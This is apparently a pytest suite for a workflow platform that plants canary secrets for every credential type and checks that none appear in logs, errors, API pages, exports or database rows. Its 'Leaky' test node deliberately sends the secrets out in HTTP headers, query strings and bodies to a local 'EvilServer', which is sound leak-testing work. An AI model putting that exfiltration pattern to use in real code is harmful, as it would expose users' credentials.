"""Planted secrets of every credential type, and nodes that do with them whatever they can: nothing of it is kept.

A new credential type is looked at by itself; one whose fields cannot be guessed says so here.
"""

import hashlib
import io
import logging
from collections.abc import Iterator
from typing import Any

import pytest
from asgiref.sync import sync_to_async
from django.apps import apps
from rest_framework.test import APIClient

from accounts.actors import Actor
from accounts.models import User
from actions.services import credentials
from flows.models import Run
from flows.sdk import (
    CredentialFields,
    CredentialRef,
    CredentialType,
    Emit,
    Kind,
    Node,
    NodeConfig,
    NodeError,
    NodeMeta,
    credential_types,
    node_types,
    ui,
)
from flows.sdk.loading import load
from flows.services.versions import exported
from hookflow_site.logs import logging_settings
from tests.support.certificates import self_signed
from tests.support.evil_server import EvilServer
from tests.support.flows import eventually, line, published, running, started

pytestmark = [
    pytest.mark.django_db(transaction=True),
    pytest.mark.usefixtures("encryption_key", "loopback_allowed"),
]
PAIR = self_signed("client.example")
EXAMPLES: dict[str, dict[str, Any]] = {
    "http-client-certificate": {"pem": PAIR.certificate, "key": PAIR.key},
    "office365": {"login_url": "https://127.0.0.1", "graph_url": "https://127.0.0.1/v1.0", "client_id": ""},
    "proxmox": {"url": "https://127.0.0.1", "token_id": "ops@pve!flows"},
}
"""Values of types whose fields cannot be guessed."""
OVER_HTTP = ("/echo", "/redirect?to=http://10.0.0.1/", "/garbage", "/hang_up", "/huge", "/many_headers")
MODES = ("raise", "crash", "log", "emit", *OVER_HTTP)


def own_types() -> list[str]:
    list(load("actions.credentials", "hookflow"))
    return list(credential_types)


def canary(kind: str, field: str) -> str:
    """64 hexadecimal digits, which keys of all sorts may be."""
    return hashlib.sha256(f"{kind}.{field}".encode()).hexdigest()


def planted(kind: CredentialType, server: EvilServer) -> dict[str, Any]:
    values: dict[str, Any] = {}
    for name, schema in kind.Fields.model_json_schema()["properties"].items():
        if name in kind.Fields.secret_names():
            values[name] = canary(kind.meta.type, name)
        elif name in ("host", "server"):
            values[name] = "127.0.0.1"
        elif name == "port":
            values[name] = server.port
        elif "url" in name:
            values[name] = server.url("/")
        elif name in ("user", "username") or "default" not in schema:
            values[name] = [f"127.0.0.1:{server.port}"] if schema.get("type") == "array" else "ops"
    return values | EXAMPLES.get(kind.meta.type, {})


class LeakyConfig(NodeConfig):
    credential: CredentialRef() = ui(label="Credential")
    mode: str = ui(label="Mode")
    url: str = ui("", label="URL")


class Leaky(Node):
    """Puts the secrets wherever a node can put anything."""

    meta = NodeMeta("leaky", Kind.ACTION, "Leaky", "Leaks.", "droplet", durable=True)
    Config = LeakyConfig

    async def run(self, ctx: Any, config: LeakyConfig, record: dict[str, Any]) -> Emit:
        fields = ctx.opened(config.credential, CredentialFields)
        secrets = list(fields.secrets())
        assert secrets
        everything = f"{fields!r} {fields} " + " ".join(secrets)
        if config.mode == "raise":
            raise NodeError("leaky", everything, hint=everything)
        if config.mode == "crash":
            raise ValueError(everything)
        if config.mode in OVER_HTTP:
            sent = {"headers": {"X-Key": secrets[0]}, "content": everything.encode(), "timeout_seconds": 2}
            answer = await ctx.http.request("POST", f"{config.url}?key={secrets[0]}", **sent)
            return Emit("out", {**record, "answer": answer.text, "headers": dict(answer.headers)})
        for say in (ctx.log.debug, ctx.log.info, ctx.log.warning, ctx.log.error):
            say(everything)
        return Emit("out", {**record, "deep": [{"is": everything, secrets[0]: fields.model_dump()}]})


@pytest.fixture
def leaky() -> Iterator[None]:
    node_types.register("leaky", Leaky(), "tests")
    yield
    node_types.remove("leaky")


@pytest.fixture
def log() -> Iterator[io.StringIO]:
    """What the program logs, as the formatter of the site writes it."""
    formatter = dict(logging_settings("json", "DEBUG")["formatters"]["line"])
    out = io.StringIO()
    handler = logging.StreamHandler(out)
    handler.setFormatter(formatter.pop("()")(**formatter))
    logging.getLogger().addHandler(handler)
    yield out
    logging.getLogger().removeHandler(handler)


@pytest.mark.parametrize("name", own_types())
async def test_no_canary_is_anywhere(name: str, leaky: None, tenant_admin: User, log: io.StringIO) -> None:
    async with EvilServer() as server:
        seen, runs = await sync_to_async(everything_after)(credential_types.get(name), server, tenant_admin)
    assert "node_failed_unexpectedly" in log.getvalue()
    seen += log.getvalue()
    assert len(runs) == len(MODES)
    kind = credential_types.get(name)
    assert kind is not None
    found = [field for field in kind.Fields.secret_names() if is_told(name, field, seen)]
    assert found == []


def is_told(name: str, field: str, seen: str) -> bool:
    """Whether a secret is there; of one of several lines, any line that is not the same in all such secrets."""
    planted_text = EXAMPLES.get(name, {}).get(field) or canary(name, field)
    return any(line in seen for line in planted_text.splitlines() if "-----" not in line)


def everything_after(kind: Any, server: EvilServer, user: User) -> tuple[str, list[Run]]:
    """All that is kept and told once every way of leaking was tried."""
    actor = Actor.of_user(user)
    made = credentials.create(actor=actor, type=kind.meta.type, name="canary", values=planted(kind, server))
    assert made.secrets.exists(), "a canary was planted"
    runs, told = [], []
    for mode in MODES:
        config = {"credential": "canary", "mode": mode, "url": server.url(mode) if mode in OVER_HTTP else ""}
        flow = published(line(("t", "manual", {}), ("l", "leaky", config)), actor)
        runs.append(started(flow, {}, actor))
        told.append(exported(flow, "draft").decode())
    with running():
        eventually(lambda: all(Run.objects.get(id=run.id).status in ("succeeded", "failed") for run in runs))
    client = APIClient()
    client.force_login(user)
    for run in runs:
        for page in (f"/api/v1/runs/{run.id}/", f"/api/v1/runs/{run.id}/steps/", f"/runs/{run.id}/"):
            told.append(client.get(page).content.decode())
    told.append(client.get(f"/api/v1/credentials/{made.pk}/").content.decode())
    rows = [str(list(model._default_manager.values())) for model in apps.get_models()]
    return "".join(told + rows), runs
